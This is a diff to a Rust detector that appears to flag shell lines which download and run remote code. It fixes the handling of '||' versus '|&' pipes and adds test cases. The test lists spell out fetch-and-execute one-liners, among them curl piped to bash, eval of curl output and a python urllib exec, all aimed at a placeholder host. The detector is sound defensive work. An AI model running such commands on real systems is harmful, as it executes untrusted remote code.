@@ -463,11 +463,15 @@ fn evaluates(line: &[u8]) -> bool {
 
 /// Whether a line pipes something into what runs it.
 fn pipes_into(line: &[u8]) -> bool {
-    let mut parts = line.split(|byte| *byte == b'|').skip(1);
-    parts.any(|part| {
+    let mut before: Option<&[u8]> = None;
+    line.split(|byte| *byte == b'|').any(|part| {
+        // Nothing stands within `||`, behind which is an alternative.
+        let piped = before.is_some_and(|before| !before.is_empty());
+        before = Some(part);
+        let part = part.strip_prefix(b"&").unwrap_or(part);
         let mut words =
             part.split(|byte| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\''));
-        runs_text(words.find(|word| !word.is_empty()).unwrap_or_default())
+        piped && runs_text(words.find(|word| !word.is_empty()).unwrap_or_default())
     })
 }
 
@@ -705,6 +709,7 @@ mod tests {
             "curl -fsSLo x http://h/x && chmod 755 x && ./x",
             "cd /tmp; wget http://h/p.py; python3 p.py",
             "curl -s http://h/x >/tmp/.y; . /tmp/.y",
+            "curl -s http://h/x |& bash",
             "eval \"$(curl -fsSL http://h/x)\"",
             "bash <(wget -qO- http://h/x)",
             "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://h\").read())'",
@@ -724,6 +729,7 @@ mod tests {
             "until python3 -c \"import socket; socket.create_connection(('db',1))\"; do sleep 1; done; exec \"$@\"",
             "python3 -c \"import socket\" && exec /bin/bash /app/run.sh",
             "curl -fsS http://localhost/health || exit 1",
+            "curl -fsS http://localhost/health || sh /app/restart.sh",
             "curl -fsSL http://h/app.tar -o app.tar && tar xf app.tar && exec /opt/app/run",
             "IP=$(curl -s http://h/ip) exec app --ip $IP",
             "git fetch origin; ./build.sh",
